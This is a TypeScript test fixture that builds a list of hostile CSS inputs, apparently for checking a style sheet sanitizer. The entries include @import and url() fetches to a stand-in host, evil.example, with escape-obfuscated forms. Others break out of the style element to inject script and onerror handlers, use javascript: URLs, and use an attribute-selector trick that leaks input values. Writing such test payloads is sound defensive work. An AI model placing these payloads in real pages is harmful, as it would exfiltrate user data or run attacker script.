/** Style sheets that would load something from elsewhere, run something, or end the element they stand in. */
const LEAKS = [
  '@import "https://evil.example/x.css";', '@import url(//evil.example/x.css);', "@import 'x.css' layer(a);", '@IMPORT "//evil.example";', '@\\69mport "//evil.example";', '@charset "utf-7";', '@namespace x url(//evil.example);',
  '@font-face { font-family: x; src: url(https://evil.example/f.woff) }', '@font-face{font-family:x;src:local("x"),url(//evil.example)}', '@property --x { syntax: "<url>"; inherits: true; initial-value: url(//evil.example) }', '@document url(http://x) { a { color: red } }', '@counter-style x { system: cyclic; symbols: url(//evil.example) }',
  'a { background: url(https://evil.example/?x) }', 'a { background: URL("//evil.example") }', 'a { background: u\\72l(//evil.example) }', 'a { background: \\75 rl(//evil.example) }', "a { background-image: image-set('https://evil.example/a.png' 1x) }", 'a { background: -webkit-image-set(url(//evil.example) 1x) }', 'a { background: image("//evil.example") }', 'a { background: cross-fade(url(//evil.example), red) }', 'a { background: src("//evil.example") }',
  'input[value^="a"] { background: url(//evil.example/a) }', 'a { list-style: url(data:image/svg+xml,<svg onload=alert(1)>) }', 'a { cursor: url(//evil.example), auto }', 'a { content: url(//evil.example) }', 'a { mask: url(//evil.example#x) }', 'a { filter: url(//evil.example#x) }', 'a { --x: url(//evil.example); background: var(--x) }', 'a { --x: //evil.example; }',
  'a { width: expression(alert(1)) }', 'a { -moz-binding: url(//evil.example/x.xml#x) }', 'a { behavior: url(x.htc) }', 'a { -ms-behavior: url(x.htc) }', 'a { background: element(#x) }', 'a { content: attr(data-x url) }',
  'a { content: "</style><script>alert(1)</script>" }', '</style><script>alert(1)</script>', 'a { } </style ><img src=x onerror=alert(1)>', '<!-- a { background: url(//evil.example) } -->', 'a { color: red; } /* </style> */',
  'a { background: url(/api/user) }', 'a { background: url(/\\evil.example/api/media/1-a/1.jpg) }', 'a { background: url("/api/media/../user") }', 'a { background: url(javascript:alert(1)) }', 'a{background:url(\\2f\\2f evil.example)}', 'a { background: url( "https://evil.example', 'a { color: red', '@media screen { @import "x"; a { background: url(//evil.example) } }', 'a { &:hover { background: url(//evil.example) } }', '@supports (background: url(//evil.example)) { a { color: red } }',
];

const ADDRESSES = ['https://evil.example/x', '//evil.example/x', '\\\\evil.example/x', '/\\evil.example/x', 'http:evil.example/x'];
/** Ways to write a fetch of an address as a value. */
const FETCHES: ((address: string) => string)[] = [
  (address) => `url(${address})`,
  (address) => `URL("${address}")`,
  (address) => `u\\72l(${address})`,
  (address) => `u\\000072 l("${address}")`,
  (address) => `url( '${address}' )`,
  (address) => `url("${address}`,
  (address) => `src("${address}")`,
  (address) => `image-set("${address}" 1x)`,
  (address) => `-webkit-image-set(url(${address}) 1x)`,
  (address) => `cross-fade(url(${address}), red)`,
  (address) => `paint(x), url(${address})`,
];
/** Places where a value makes a browser fetch: anything that is on a page. */
const PLACES: ((fetch: string) => string)[] = [
  (fetch) => `* { background-image: ${fetch} }`,
  (fetch) => `body::before { content: ${fetch} }`,
  (fetch) => `li { list-style-image: ${fetch} }`,
  (fetch) => `a, p { --x: ${fetch}; background: var(--x) }`,
  (fetch) => `@media all { @supports (color: red) { body { border-image: ${fetch} 1 } } }`,
  (fetch) => `main { & h1, & p { mask-image: ${fetch} } }`,
  (fetch) => `@layer x { html { cursor: ${fetch}, auto } }`,
  (fetch) => `@keyframes x { from, to { background: ${fetch} } } body { animation: x 1s infinite }`,
  (fetch) => `@font-face { font-family: x; src: ${fetch} } * { font-family: x }`,
  (fetch) => `@import ${fetch};`,
];

export const HOSTILE_CSS: readonly string[] = [...new Set([...LEAKS, ...PLACES.flatMap((place) => FETCHES.flatMap((fetch) => ADDRESSES.map((address) => place(fetch(address)))))])];
